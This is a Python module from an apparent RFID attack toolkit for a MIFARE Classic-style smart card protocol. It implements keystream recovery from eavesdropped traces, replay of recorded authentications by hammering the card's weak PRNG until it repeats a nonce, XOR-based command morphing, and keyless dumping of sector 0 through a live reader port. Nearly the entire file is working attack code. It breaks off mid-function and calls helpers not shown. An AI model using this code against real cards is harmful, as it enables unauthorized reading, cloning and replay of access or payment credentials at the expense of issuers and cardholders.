"""Keystream recovery and card attacks that never touch the cipher.

Everything here works from eavesdropped traces and an attacker port.
The toolkit relies only on protocol structure: XOR malleability of a
stream cipher, CRC_A being affine over XOR, the parity-peek rule, and
the card's fixed responses (key A reads as zeros, ACK is 0xa).

Keystream indices are "stripped": parity positions are not counted.
Bit 0 is the first encrypted bit of the reader's 8-byte authentication
answer, so post-auth traffic starts at index 96 (64 answer bits plus
32 proof bits).
"""

from __future__ import annotations

import math
from dataclasses import dataclass
from typing import Iterable, Optional, Sequence

from .commands import ACK, AUTH_KEY_A, AUTH_KEY_B, CommandTable, DEFAULT_COMMANDS
from .framing import (
    FrameKind,
    crc_a,
    encode_nibble,
    encode_short7,
    odd_parity,
    standard_with_parity,
    with_crc_a,
)
from .tracefmt import Trace, TraceEntry, entry_kind, entry_to_wire, wire_to_data

POST_AUTH_OFFSET = 96
ANSWER_BOUNDARY = 64

# First manufacturer bytes after the BCC are constant within a chip
# family, so they make a usable known-plaintext prior for block 0.
FAMILY_MFR_PREFIX = bytes.fromhex("c108400047")

SPAM_GAP_ETU = 2000
FIXED_DELAY_BUDGET = 50
SPAM_BUDGET = 3 * 65535


class AttackError(Exception):
    """Base class for attack failures."""


class KeystreamGap(AttackError):
    """A needed keystream index is not covered by the recovery."""

    def __init__(self, index: int):
        super().__init__(f"keystream not recovered at stripped index {index}")
        self.index = index


class PlaintextConflict(AttackError):
    """Two known-plaintext sources disagree about a keystream bit."""


class ReplayError(AttackError):
    """Replay gave up before the card produced the wanted nonce."""

    def __init__(self, message: str, attempts: int):
        super().__init__(f"{message} after {attempts} attempts")
        self.attempts = attempts


class NotApplicable(AttackError):
    """The card's configuration does not support this technique."""


class CardRefused(AttackError):
    """The card answered a NACK where the attack needed an ACK."""

    def __init__(self, code: int):
        super().__init__(f"card refused with NACK 0x{code:x}")
        self.code = code


@dataclass
class KnownPlaintext:
    """Known plaintext bytes inside one trace entry.

    seq is the trace sequence number, byte_offset the position of the
    first known byte within that entry's payload.  For 4-bit entries
    the single data byte carries the nibble in its low bits.
    """

    seq: int
    byte_offset: int
    data: bytes


class RecoveredKeystream:
    """Keystream bits indexed in stripped (data-only) bit positions.

    Data-derived and parity-derived bits are counted separately so the
    raw recovery size matches the annotated stream length: a fully
    known 22-byte read exchange yields 198 bits, 176 from data and 22
    from parity positions, even though 21 of the parity bits duplicate
    data positions.
    """

    def __init__(self) -> None:
        self._bits: dict[int, int] = {}
        self.data_positions: set[int] = set()
        self.parity_positions: set[int] = set()

    def add_data(self, index: int, bit: int) -> None:
        self._set(index, bit)
        self.data_positions.add(index)

    def add_parity(self, index: int, bit: int) -> None:
        self._set(index, bit)
        self.parity_positions.add(index)

    def _set(self, index: int, bit: int) -> None:
        old = self._bits.get(index)
        if old is not None and old != bit:
            raise PlaintextConflict(f"keystream bit {index} derived as both 0 and 1")
        self._bits[index] = bit

    def has(self, index: int) -> bool:
        return index in self._bits

    def bit(self, index: int) -> int:
        try:
            return self._bits[index]
        except KeyError:
            raise KeystreamGap(index) from None

    @property
    def coverage(self) -> set[int]:
        return set(self._bits)

    @property
    def raw_bit_count(self) -> int:
        return len(self.data_positions) + len(self.parity_positions)

    def first_gap(self, start: int = 0) -> int:
        index = start
        while index in self._bits:
            index += 1
        return index

    def merge(self, other: "RecoveredKeystream") -> None:
        for index in other.data_positions:
            self.add_data(index, other._bits[index])
        for index in other.parity_positions:
            self.add_parity(index, other._bits[index])

    def byte_at(self, index: int) -> int:
        value = 0
        for k in range(8):
            value |= self.bit(index + k) << k
        return value

    def serialize(self) -> str:
        lines = ["# stripped-index keystream bits"]
        for index in sorted(self._bits):
            tag = "dp" if index in self.data_positions and index in self.parity_positions else (
                "d" if index in self.data_positions else "p")
            lines.append(f"{index} {self._bits[index]} {tag}")
        return "\n".join(lines) + "\n"

    @classmethod
    def deserialize(cls, text: str) -> "RecoveredKeystream":
        ks = cls()
        for lineno, line in enumerate(text.splitlines(), start=1):
            line = line.strip()
            if not line or line.startswith("#"):
                continue
            parts = line.split()
            if len(parts) != 3 or parts[2] not in ("d", "p", "dp"):
                raise ValueError(f"line {lineno}: expected '<index> <bit> <d|p|dp>'")
            index, bit = int(parts[0]), int(parts[1])
            if "d" in parts[2]:
                ks.add_data(index, bit)
            if "p" in parts[2]:
                ks.add_parity(index, bit)
        return ks


def _entry_data_bits(entry: TraceEntry) -> int:
    kind = entry_kind(entry)
    if kind is FrameKind.NIBBLE4:
        return 4
    if kind is FrameKind.SHORT7:
        return 7
    return 8 * len(entry.data)


def locate_authentication(trace: Trace) -> int:
    """Index of the first clear auth request entry, or -1.

    An auth request is a 4-byte reader frame, CRC-valid, starting with
    0x60 or 0x61, followed by the nonce, answer and proof entries.
    """
    entries = trace.entries
    for i, entry in enumerate(entries):
        if entry.sender != "PCD" or len(entry.data) != 4 or any(entry.flags):
            continue
        payload = entry.payload
        if payload[0] not in (AUTH_KEY_A, AUTH_KEY_B):
            continue
        if crc_a(payload[:2]) != payload[2:]:
            continue
        if i + 3 >= len(entries):
            continue
        nonce, answer, proof = entries[i + 1], entries[i + 2], entries[i + 3]
        if nonce.sender == "TAG" and len(nonce.data) == 4 and \
                answer.sender == "PCD" and len(answer.data) == 8 and \
                proof.sender == "TAG" and len(proof.data) == 4:
            return i
    return -1


def stripped_offsets(trace: Trace) -> dict[int, int]:
    """Map seq -> stripped keystream offset for encrypted entries.

    The reader's 8-byte answer sits at offset 0; everything before it
    is cleartext and is not mapped.
    """
    auth = locate_authentication(trace)
    if auth < 0:
        raise AttackError("no authentication exchange found in trace")
    offsets: dict[int, int] = {}
    position = 0
    for entry in trace.entries[auth + 2:]:
        offsets[entry.seq] = position
        position += _entry_data_bits(entry)
    return offsets


def recover_keystream(trace: Trace, known: Iterable[KnownPlaintext]) -> RecoveredKeystream:
    """Recover keystream bits by XORing known plaintext into a trace.

    Each known byte yields 8 data bits; its parity flag yields the
    keystream bit at the following byte boundary (the peek position).
    The peek at the end of the authentication answer is skipped: the
    cipher is rekeyed with the reader nonce at that boundary, so the
    peeked bit does not belong to the session stream.
    """
    offsets = stripped_offsets(trace)
    by_seq = {entry.seq: entry for entry in trace.entries}
    ks = RecoveredKeystream()
    for item in known:
        entry = by_seq.get(item.seq)
        if entry is None:
            raise AttackError(f"known plaintext names missing entry {item.seq}")
        if entry.seq not in offsets:
            raise AttackError(f"entry {item.seq} is not in the encrypted portion")
        base = offsets[entry.seq]
        kind = entry_kind(entry)
        if kind is FrameKind.NIBBLE4:
            if item.byte_offset != 0 or len(item.data) != 1:
                raise AttackError("nibble entries carry exactly one data byte")
            cipher = entry.payload[0]
            plain = item.data[0]
            for k in range(4):
                ks.add_data(base + k, ((cipher ^ plain) >> k) & 1)
            continue
        for j, plain in enumerate(item.data):
            pos = item.byte_offset + j
            if pos >= len(entry.data):
                raise AttackError(f"known plaintext overruns entry {item.seq}")
            cipher, flag = entry.data[pos]
            start = base + 8 * pos
            for k in range(8):
                ks.add_data(start + k, ((cipher ^ plain) >> k) & 1)
            peek_index = start + 8
            if peek_index == ANSWER_BOUNDARY and base < ANSWER_BOUNDARY:
                continue
            # sent parity = odd(plain) ^ peek, and flag = sent ^ odd(cipher)
            sent_parity = flag ^ odd_parity(cipher)
            ks.add_parity(peek_index, sent_parity ^ odd_parity(plain))
    return ks


@dataclass
class MappedSlice:
    """Keystream for one message of a remapped shape.

    bits holds the data-bit keystream, peeks the per-byte parity peek
    bits (None when uncovered and partial mapping was allowed).
    """

    offset: int
    bits: list[Optional[int]]
    peeks: list[Optional[int]]


def remap_keystream(ks: RecoveredKeystream, shape: Sequence[int], *,
                    base: int = 0, allow_partial: bool = False) -> list[MappedSlice]:
    """Reindex recovered keystream onto a message sequence of new shape.

    shape lists the data-bit length of each message (32 for a 4-byte
    command, 4 for an ACK, and so on).  Raises a gap error naming the
    first uncovered stripped index unless allow_partial is set.
    """
    slices: list[MappedSlice] = []
    position = base
    for length in shape:
        bits: list[Optional[int]] = []
        for k in range(length):
            index = position + k
            if ks.has(index):
                bits.append(ks.bit(index))
            elif allow_partial:
                bits.append(None)
            else:
                raise KeystreamGap(index)
        peeks: list[Optional[int]] = []
        if length % 8 == 0:
            for byte_end in range(position + 8, position + length + 1, 8):
                if ks.has(byte_end):
                    peeks.append(ks.bit(byte_end))
                elif allow_partial:
                    peeks.append(None)
                else:
                    raise KeystreamGap(byte_end)
        slices.append(MappedSlice(position, bits, peeks))
        position += length
    return slices


def encrypt_at(ks: RecoveredKeystream, offset: int, plain: bytes) -> list[tuple[int, bool]]:
    """Encrypt a payload at a stripped offset, returning (byte, flag) pairs."""
    out: list[tuple[int, bool]] = []
    for j, p in enumerate(plain):
        start = offset + 8 * j
        key_byte = ks.byte_at(start)
        cipher = p ^ key_byte
        sent_parity = odd_parity(p) ^ ks.bit(start + 8)
        out.append((cipher, bool(sent_parity ^ odd_parity(cipher))))
    return out


def decrypt_at(ks: RecoveredKeystream, offset: int,
               data: Sequence[tuple[int, bool]]) -> tuple[bytes, list[bool]]:
    """Decrypt (byte, flag) pairs at a stripped offset.

    Returns the plaintext and a per-byte parity validity list computed
    after decryption.
    """
    plain = bytearray()
    parity_ok: list[bool] = []
    for j, (cipher, flag) in enumerate(data):
        start = offset + 8 * j
        p = cipher ^ ks.byte_at(start)
        plain.append(p)
        sent_parity = flag ^ odd_parity(cipher)
        parity_ok.append(sent_parity == (odd_parity(p) ^ ks.bit(start + 8)))
    return bytes(plain), parity_ok


def encrypt_nibble_at(ks: RecoveredKeystream, offset: int, nibble: int) -> int:
    value = 0
    for k in range(4):
        value |= (((nibble >> k) & 1) ^ ks.bit(offset + k)) << k
    return value


def decrypt_nibble_at(ks: RecoveredKeystream, offset: int, cipher: int) -> int:
    return encrypt_nibble_at(ks, offset, cipher)


def morph_command(data: Sequence[tuple[int, bool]], old_plain: bytes,
                  new_plain: bytes) -> list[tuple[int, bool]]:
    """Turn ciphertext of old_plain into ciphertext of new_plain.

    XORs the plaintext difference into the bytes.  The parity anomaly
    flags stay put: a flag compares the sent parity bit against the
    cipher byte's own parity, and both sides shift by the same amount
    when the plaintext changes.  Works without any keystream knowledge
    because the stream cancels out.
    """
    if len(old_plain) != len(new_plain) or len(old_plain) != len(data):
        raise AttackError("morph requires equal-length plaintexts")
    out: list[tuple[int, bool]] = []
    for (cipher, flag), old, new in zip(data, old_plain, new_plain):
        out.append((cipher ^ old ^ new, bool(flag)))
    return out


def sector_first_block(block: int) -> int:
    """First block of the sector containing block (standard layout)."""
    if block < 128:
        return (block // 4) * 4
    return 128 + ((block - 128) // 16) * 16


def sector_trailer_block(block: int) -> int:
    if block < 128:
        return sector_first_block(block) + 3
    return sector_first_block(block) + 15


def sector_blocks(block: int) -> list[int]:
    first = sector_first_block(block)
    count = 4 if block < 128 else 16
    return list(range(first, first + count))


KNOWN = "known"
MASKED = "masked"
UNKNOWN = "unknown"


class SectorDump:
    """Recovered sector contents with per-byte confidence.

    Bytes are Known (verified plaintext), MaskedZero (positions the
    card always reads back as zero, like key A in the trailer), or
    Unknown.  A byte is only marked Known when the keystream behind it
    was cross-checked, so Known never lies.
    """

    def __init__(self, sector_index: int, blocks: Sequence[int]):
        self.sector_index = sector_index
        self.block_numbers = list(blocks)
        self.bytes: dict[int, list[tuple[Optional[int], str]]] = {
            b: [(None, UNKNOWN)] * 16 for b in self.block_numbers}

    def mark(self, block: int, offset: int, value: int, status: str) -> None:
        row = self.bytes[block]
        current_value, current_status = row[offset]
        if current_status != UNKNOWN and current_value != value:
            raise PlaintextConflict(
                f"block {block} byte {offset} recovered as both "
                f"{current_value:02x} and {value:02x}")
        row[offset] = (value, status)

    def mark_block(self, block: int, values: bytes, status: str = KNOWN) -> None:
        for offset, value in enumerate(values):
            self.mark(block, offset, value, status)

    def status(self, block: int, offset: int) -> str:
        return self.bytes[block][offset][1]

    def value(self, block: int, offset: int) -> Optional[int]:
        return self.bytes[block][offset][0]

    def block_view(self, block: int) -> Optional[bytes]:
        row = self.bytes[block]
        if any(status == UNKNOWN for _, status in row):
            return None
        return bytes(value for value, _ in row)

    def known_count(self, block: int) -> int:
        return sum(1 for _, status in self.bytes[block] if status == KNOWN)

    def unknown_count(self, block: int) -> int:
        return sum(1 for _, status in self.bytes[block] if status == UNKNOWN)

    def render(self) -> str:
        lines = [f"sector {self.sector_index}"]
        for block in self.block_numbers:
            cells = []
            for value, status in self.bytes[block]:
                if status == UNKNOWN:
                    cells.append("??")
                elif status == MASKED:
                    cells.append("00*")
                else:
                    cells.append(f"{value:02x}")
            lines.append(f"block {block:3d}: " + " ".join(cells))
        lines.append("legend: ?? unknown, 00* reads as zero (masked key byte)")
        return "\n".join(lines) + "\n"


def _wire_from_parts(payload: Sequence[tuple[int, bool]], kind: FrameKind):
    if kind is FrameKind.SHORT7:
        return encode_short7(payload[0][0])
    if kind is FrameKind.NIBBLE4:
        return encode_nibble(payload[0][0])
    parity = [odd_parity(b) ^ int(f) for b, f in payload]
    return standard_with_parity(bytes(b for b, _ in payload), parity)


def _short7_wire(byte: int):
    return encode_short7(byte)


def _clear_parts(payload: bytes) -> list[tuple[int, bool]]:
    return [(b, False) for b in payload]


class ReplaySession:
    """Replays a recorded transaction against a live card.

    The card nonce must match the recorded one for the recorded
    ciphertext to stay valid, so authentication retries until the
    card's weak PRNG lands on the recorded value.  FixedDelay repeats
    the recorded frame schedule exactly; Spam hammers the card with
    anticollision plus auth attempts, padding the per-attempt clock
    stride to be coprime with the PRNG period so every shift is
    visited within one period's worth of attempts.
    """

    def __init__(self, port, trace: Trace):
        self.port = port
        self.trace = trace
        self.entries = trace.entries
        self.auth_index = locate_authentication(trace)
        if self.auth_index < 0:
            raise AttackError("trace has no authentication exchange to replay")
        self.nonce_entry = self.entries[self.auth_index + 1]
        self.answer_entry = self.entries[self.auth_index + 2]
        self.proof_entry = self.entries[self.auth_index + 3]
        self.auth_request = self.entries[self.auth_index].payload
        self.target_nonce = self.nonce_entry.payload
        self.uid = self._uid_from_trace()
        self._starts = self._absolute_starts()
        self.attempts = 0
        self.replays = 0
        self.log: list[str] = []
        self.offset = POST_AUTH_OFFSET
        self.authenticated = False

    def _uid_from_trace(self) -> bytes:
        for entry in self.entries[: self.auth_index]:
            if entry.sender == "PCD" and len(entry.data) == 9 and \
                    entry.payload[:2] == bytes((0x93, 0x70)):
                return entry.payload[2:6]
        raise AttackError("trace has no select exchange, uid unknown")

    def _absolute_starts(self) -> list[int]:
        starts = []
        clock = 0
        for entry in self.entries:
            start = clock + entry.etu_delta if starts else entry.etu_delta
            wire = entry_to_wire(entry)
            starts.append(start)
            clock = start + wire.duration_etu
        return starts

    def _send_entry(self, entry: TraceEntry):
        return self.port.send(entry_to_wire(entry))

    def _fixed_delay_attempt(self) -> bytes:
        self.port.power_cycle()
        nonce = b""
        for i in range(self.auth_index + 1):
            entry = self.entries[i]
            if entry.sender != "PCD":
                continue
            gap = self._starts[i] - self.port.now_etu
            if gap > 0:
                self.port.advance_clock(gap)
            response = self._send_entry(entry)
            if i == self.auth_index:
                if response is None or len(response) != 36:
                    raise ReplayError("card went silent during replay", self.attempts)
                nonce = bytes(wire_payload(response))
        return nonce

    def _spam_attempt(self, pcd_entries: list[TraceEntry]) -> bytes:
        response = None
        for entry in pcd_entries:
            self.port.advance_clock(SPAM_GAP_ETU)
            response = self.port.send(entry_to_wire(entry))
        if response is None or len(response) != 36:
            raise ReplayError("card went silent during nonce spam", self.attempts)
        return bytes(wire_payload(response))

    def authenticate(self, strategy: str = "fixed-delay", budget: Optional[int] = None,
                     prng_period: int = 65535) -> "ReplaySession":
        if strategy == "fixed-delay":
            budget = FIXED_DELAY_BUDGET if budget is None else budget
            for _ in range(budget):
                self.attempts += 1
                nonce = self._fixed_delay_attempt()
                self.log.append(
                    f"attempt {self.attempts}: fixed-delay nonce {nonce.hex()}"
                    f" want {self.target_nonce.hex()}")
                if nonce == self.target_nonce:
                    return self._finish_auth()
            raise ReplayError("fixed-delay replay never saw the recorded nonce",
                              self.attempts)
        if strategy == "spam":
            budget = SPAM_BUDGET if budget is None else budget
            pcd_entries = [e for e in self.entries[: self.auth_index + 1]
                           if e.sender == "PCD"]
            self.port.power_cycle()
            stride_pad: Optional[int] = None
            last_clock = None
            while self.attempts < budget:
                self.attempts += 1
                if stride_pad:
                    self.port.advance_clock(stride_pad)
                before = self.port.now_etu
                nonce = self._spam_attempt(pcd_entries)
                if nonce == self.target_nonce:
                    self.log.append(f"attempt {self.attempts}: spam hit nonce"
                                    f" {nonce.hex()}")
                    return self._finish_auth()
                if last_clock is not None and stride_pad is None:
                    stride = (before - last_clock) // 8
                    pad = 0
                    while math.gcd(stride + pad, prng_period) != 1:
                        pad += 1
                    stride_pad = 8 * pad
                    if pad:
                        self.log.append(
                            f"stride {stride} shares a factor with the period,"
                            f" padding by {pad} ticks")
                last_clock = before
            raise ReplayError("nonce spam exhausted its budget", self.attempts)
        raise AttackError(f"unknown replay strategy: {strategy}")

    def _finish_auth(self) -> "ReplaySession":
        response = self._send_entry(self.answer_entry)
        if response is None:
            raise ReplayError("card rejected the replayed answer", self.attempts)
        proof = bytes(wire_payload(response))
        if proof != self.proof_entry.payload:
            raise ReplayError("card proof differs from the recorded one",
                              self.attempts)
        self.offset = POST_AUTH_OFFSET
        self.authenticated = True
        self.replays += 1
        return self

    def reauthenticate(self, strategy: str = "fixed-delay",
                       budget: Optional[int] = None) -> "ReplaySession":
        self.authenticated = False
        return self.authenticate(strategy, budget)

    def send_parts(self, parts: Sequence[tuple[int, bool]],
                   kind: FrameKind = FrameKind.STANDARD):
        """Send encrypted (byte, flag) pairs and advance the offset."""
        if not self.authenticated:
            raise AttackError("session is not authenticated")
        wire = _wire_from_parts(parts, kind)
        self.offset += wire.data_bit_count()
        response = self.port.send(wire)
        if response is not None:
            self.offset += response.data_bit_count()
        return response

    def send_plain(self, ks: RecoveredKeystream, plain: bytes):
        return self.send_parts(encrypt_at(ks, self.offset, plain))

    def send_plain_nibble(self, ks: RecoveredKeystream, nibble: int):
        cipher = encrypt_nibble_at(ks, self.offset, nibble)
        return self.send_parts([(cipher, False)], FrameKind.NIBBLE4)


def wire_payload(wire) -> bytes:
    """Data bytes of a wire frame, low bit first within each byte."""
    return bytes(b for b, _ in wire_to_data(wire))


def wire_parts(wire) -> list[tuple[int, bool]]:
    return wire_to_data(wire)


def replay_until_nonce(port, trace: Trace, *, strategy: str = "fixed-delay",
                       budget: Optional[int] = None,
                       prng_period: int = 65535) -> ReplaySession:
    """Authenticate a live session by replaying a recorded trace."""
    session = ReplaySession(port, trace)
    return session.authenticate(strategy, budget, prng_period)


def replay_transaction(port, trace: Trace) -> int:
    """Re-send every reader frame of a trace on its recorded schedule.

    Against the card the trace came from, or a twin sharing its
    personalization, the power-up schedule reproduces the recorded
    nonce, so the whole transaction replays verbatim and its memory
    effects are committed again.  Returns the number of card replies.
    """
    session = ReplaySession(port, trace)
    port.power_cycle()
    answered = 0
    for i, entry in enumerate(session.entries):
        if entry.sender != "PCD":
            continue
        gap = session._starts[i] - port.now_etu
        if gap > 0:
            port.advance_clock(gap)
        if session._send_entry(entry) is not None:
            answered += 1
    return answered


def key_b_is_readable(port, uid: bytes, sector_block: int) -> bool:
    """Probe the card's key B policy with a cleartext auth request.

    A card whose access conditions expose key B refuses to
    authenticate with it, so silence after a key B auth request means
    the key is readable.  Everything here is cleartext, no keystream
    or nonce control needed.
    """
    port.power_cycle()
    port.send(_short7_wire(0x26))
    port.send(_wire_from_parts(_clear_parts(bytes((0x93, 0x20))), FrameKind.STANDARD))
    select = bytes((0x93, 0x70)) + uid + bytes([uid[0] ^ uid[1] ^ uid[2] ^ uid[3]])
    port.send(_wire_from_parts(_clear_parts(with_crc_a(select)), FrameKind.STANDARD))
    request = with_crc_a(bytes((AUTH_KEY_B, sector_block)))
    response = port.send(_wire_from_parts(_clear_parts(request), FrameKind.STANDARD))
    return response is None


@dataclass
class SectorReadResult:
    dump: SectorDump
    keystream: RecoveredKeystream
    original_block: int
    replays: int
    log: list[str]


class _SectorReader:
    """Shared machinery for the sector reading attacks.

    Works from one eavesdropped trace whose encrypted command is a
    read of an unknown block in the authenticated sector.  All morphs
    keep the exchange shape, so every replay reuses the same keystream
    offsets: command at 96, response at 128, response CRC at 256.
    """

    CMD = POST_AUTH_OFFSET
    RESP = POST_AUTH_OFFSET + 32
    RESP_CRC = POST_AUTH_OFFSET + 160

    def __init__(self, port, trace: Trace, read_code: int):
        self.session = ReplaySession(port, trace)
        self.read_code = read_code
        post = [e for e in trace.entries[self.session.auth_index + 4:]]
        if len(post) < 2 or len(post[0].data) != 4 or post[0].sender != "PCD" \
                or len(post[1].data) != 18 or post[1].sender != "TAG":
            raise AttackError("trace does not end in a single read exchange")
        self.cmd_entry, self.resp_entry = post[0], post[1]
        request = self.session.auth_request
        self.auth_block = request[1]
        self.sector_blocks = sector_blocks(self.auth_block)
        self.trailer = sector_trailer_block(self.auth_block)
        self.log: list[str] = []

    def read_via_morph(self, guess_block: int, target_block: int) -> Optional[list[tuple[int, bool]]]:
        """Replay with the command morphed from a guessed to a target read."""
        self.session.reauthenticate()
        old = with_crc_a(bytes((self.read_code, guess_block)))
        new = with_crc_a(bytes((self.read_code, target_block)))
        morphed = morph_command(self.cmd_entry.data, old, new)
        response = self.session.send_parts(morphed)
        if response is None:
            return None
        parts = wire_parts(response)
        return parts if len(parts) == 18 else None

    def harvest_response(self, ks: RecoveredKeystream, parts: Sequence[tuple[int, bool]],
                         offset: int, plain: bytes, skip: Iterable[int] = ()) -> None:
        """Fold known response plaintext into the keystream pool."""
        skip_set = set(skip)
        for j, p in enumerate(plain):
            if j in skip_set:
                continue
            cipher, flag = parts[j]
            start = offset + 8 * j
            for k in range(8):
                ks.add_data(start + k, ((cipher ^ p) >> k) & 1)
            sent = flag ^ odd_parity(cipher)
            ks.add_parity(start + 8, sent ^ odd_parity(p))

    def command_keystream(self, guess_block: int) -> RecoveredKeystream:
        ks = RecoveredKeystream()
        plain = with_crc_a(bytes((self.read_code, guess_block)))
        self.harvest_response(ks, self.cmd_entry.data, self.CMD, plain)
        return ks

    def probe_nibble(self, guess_block: int, new_plain: bytes,
                     ks: RecoveredKeystream) -> Optional[int]:
        """Morph the recorded command into new_plain, decrypt the nibble reply."""
        self.session.reauthenticate()
        old = with_crc_a(bytes((self.read_code, guess_block)))
        morphed = morph_command(self.cmd_entry.data, old, new_plain)
        response = self.session.send_parts(morphed)
        if response is None:
            return None
        parts = wire_parts(response)
        if len(parts) != 1:
            return None
        return decrypt_nibble_at(ks, self.RESP, parts[0][0])


def read_sector_zero(port, trace: Trace, *,
                     mfr_prefix: bytes = FAMILY_MFR_PREFIX,
                     read_code: int = DEFAULT_COMMANDS.read) -> SectorReadResult:
    """Dump sector 0 from one eavesdropped read, without the key.

    The dance: guess which block the genuine reader read (the sector
    has only four), morph the recorded command into reads of the
    trailer and of block 0, and bootstrap keystream from plaintext the
    protocol hands out for free: key A reads as zeros, block 0 starts
    with the uid and BCC seen during anticollision, and the first
    manufacturer bytes are constant within a card family.  Every
    recovered region is cross-checked through the response CRCs before
    anything is marked Known.
    """
    reader = _SectorReader(port, trace, read_code)
    if sector_first_block(reader.auth_block) != 0:
        raise AttackError("trace authenticates a sector other than zero")
    uid = reader.session.uid
    bcc = uid[0] ^ uid[1] ^ uid[2] ^ uid[3]
    readable_b = key_b_is_readable(port, uid, reader.auth_block)
    reader.log.append(f"key B {'readable, auth probe refused' if readable_b else 'hidden, auth probe answered'}")

    last_error: Optional[AttackError] = None
    for guess in reader.sector_blocks:
        try:
            result = _sector_zero_with_guess(reader, guess, uid, bytes([bcc]),
                                             mfr_prefix, readable_b)
            result.log.append(f"original read was block {guess}")
            return result
        except AttackError as exc:
            last_error = exc
            reader.log.append(f"guess block {guess}: {exc}")
    raise AttackError(f"no block guess survived validation: {last_error}")


def _sector_zero_with_guess(reader: _SectorReader, guess: int, uid: bytes,
                            bcc: bytes, mfr_prefix: bytes,
                            readable_b: bool) -> SectorReadResult:
    ks = reader.command_keystream(guess)
    trailer_parts = reader.read_via_morph(guess, reader.trailer)
    block0_parts = reader.read_via_morph(guess, 0)
    if trailer_parts is None or block0_parts is None:
        raise AttackError("card aborted a morphed read")

    # Key A always reads back as zeros, and so does a hidden key B.
    zero_spans = [(0, 6), (10, 16)] if not readable_b else [(0, 6)]
    for start, end in zero_spans:
        reader.harvest_response(ks, trailer_parts, _SectorReader.RESP,
                                bytes(16), skip=set(range(16)) - set(range(start, end)))

    # The uid, BCC and family prefix pin down the first ten block 0 bytes.
    block0_prior = uid + bcc + mfr_prefix
    plain0, _ = decrypt_at(ks, _SectorReader.RESP, block0_parts[:6])
    if plain0[:5] != block0_prior[:5]:
        raise AttackError("block 0 does not open with the anticollision uid")
    if plain0[5] != mfr_prefix[0]:
        raise AttackError("manufacturer prefix prior does not match the card")
    reader.harvest_response(ks, block0_parts, _SectorReader.RESP, block0_prior,
                            skip=range(10, 16))

    # Access bytes decrypt under the prior-derived keystream; their
    # redundant inverted copies validate the prior.
    trailer_mid, _ = decrypt_at(ks, _SectorReader.RESP + 48, trailer_parts[6:10])
    ac_codes = unpack_access(trailer_mid[:3])
    if ac_codes is None:
        raise AttackError("decrypted access bytes violate their redundancy")
    if readable_b != (ac_codes[3] & 0b100 == 0):
        raise AttackError("access bytes disagree with the key B auth probe")

    # The checks so far are XOR relations plus the parity anchors, and
    # content errors whose bytes have even popcount and even low bit
    # slip through both.  Card behavior closes that door.  First pin
    # the keystream at the reply slot: valid frames form an affine
    # space under XOR, so a deliberately CRC-broken command stays
    # broken no matter which block the recorded read really hit, and
    # the card answers NACK 0x5 to it unconditionally.  A guess whose
    # keystream is off at this nibble decodes something else.
    broken = bytearray(with_crc_a(bytes((reader.read_code, guess))))
    broken[3] ^= 0x01
    probe = reader.probe_nibble(guess, bytes(broken), ks)
    if probe != 0x5:
        raise AttackError("checksum probe did not decode to NACK 0x5")

    # With the reply slot verified, refusal behavior anchors the block 0
    # label even against crafted contents (a data block deliberately
    # written to mimic the uid prior): block 0 refuses writes on every
    # card, so this hypothesis must see NACK 0x4 here.  The write is
    # never completed; the session is dropped before any payload.
    probe = reader.probe_nibble(
        guess, with_crc_a(bytes((DEFAULT_COMMANDS.write, 0))), ks)
    if probe != 0x4:
        raise AttackError("write probe on block 0 was not refused")

    if readable_b:
        return _finish_sector_zero_readable(reader, guess, ks, uid, bcc,
                                            mfr_prefix, trailer_parts,
                                            block0_parts, trailer_mid)

    # Hidden key B: the trailer tail reads as zeros, so block 0's last
    # six bytes decrypt directly and its CRC hands over the keystream
    # for the CRC positions of every read in this session shape.
    tail0, tail0_ok = decrypt_at(ks, _SectorReader.RESP + 80, block0_parts[10:16])
    if not all(tail0_ok):
        raise AttackError("block 0 tail failed its parity checks")
    block0 = block0_prior + tail0
    crc_ks = RecoveredKeystream()
    reader.harvest_response(crc_ks, block0_parts[16:18], _SectorReader.RESP_CRC,
                            crc_a(block0))
    trailer_plain = bytes(6) + trailer_mid + bytes(6)
    got_crc, _ = decrypt_at(crc_ks, _SectorReader.RESP_CRC, trailer_parts[16:18])
    if got_crc != crc_a(trailer_plain):
        raise AttackError("trailer CRC rejects the recovered keystream")
    ks.merge(crc_ks)

    dump = SectorDump(0, reader.sector_blocks)
    dump.mark_block(0, block0)
    for block in (1, 2):
        parts = reader.read_via_morph(guess, block)
        if parts is None:
            raise AttackError("card aborted a morphed read")
        plain, parity_ok = decrypt_at(ks, _SectorReader.RESP, parts[:16])
        got, _ = decrypt_at(ks, _SectorReader.RESP_CRC, parts[16:18])
        if got != crc_a(plain) or not all(parity_ok):
            raise AttackError(f"block {block} failed its CRC cross-check")
        dump.mark_block(block, plain)
    for i in range(6):
        dump.mark(reader.trailer, i, 0, MASKED)
        dump.mark(reader.trailer, 10 + i, 0, MASKED)
    for i, value in enumerate(trailer_mid):
        dump.mark(reader.trailer, 6 + i, value, KNOWN)
    return SectorReadResult(dump, ks, guess, reader.session.replays,
                            list(reader.log))


def _finish_sector_zero_readable(reader: _SectorReader, guess: int,
                                 ks: RecoveredKeystream, uid: bytes, bcc: bytes,
                                 mfr_prefix: bytes, trailer_parts, block0_parts,
                                 trailer_mid: bytes) -> SectorReadResult:
    """Readable key B: complete the dump via value block structure.

    Key B itself stays unknown, but a value block repeats its value
    bytes (plain, inverted, plain), which extends the keystream over
    the middle of a read response.  A restore-prefixed replay then
    slides a read of block 0 into fresh stream positions to cover the
    response tail and CRC.
    """
    dump = SectorDump(0, reader.sector_blocks)
    value_block = None
    block_parts: dict[int, list[tuple[int, bool]]] = {}
    for block in (1, 2):
        parts = reader.read_via_morph(guess, block)
        if parts is None:
            raise AttackError("card aborted a morphed read")
        block_parts[block] = parts
        head, _ = decrypt_at(ks, _SectorReader.RESP, parts[:6])
        if value_block is None and head[4] == head[0] ^ 0xFF and head[5] == head[1] ^ 0xFF:
            value_block = block
            value = head[:4]
            structural = value + bytes(b ^ 0xFF for b in value) + value
            reader.harvest_response(ks, parts, _SectorReader.RESP, structural,
                                    skip=range(12, 16))
    if value_block is None:
        raise NotApplicable("no value block in sector 0 to anchor the recovery")
    reader.log.append(f"value block structure found at block {value_block}")

    # Slide a read of block 0 behind a restore command.  The restore
    # and its operand sit entirely inside already recovered keystream,
    # and the slid response reveals stream past the base exchange.
    extension = extend_keystream_via_ack(
        reader.session.port, reader.session.trace, ks,
        value_block=value_block, known_block=(0, None), rounds=1,
        read_code=reader.read_code, uid_prior=uid + bcc + mfr_prefix,
        _session=reader.session)
    ks.merge(extension)

    block0_full, parity0 = decrypt_at(ks, _SectorReader.RESP, block0_parts[:16])
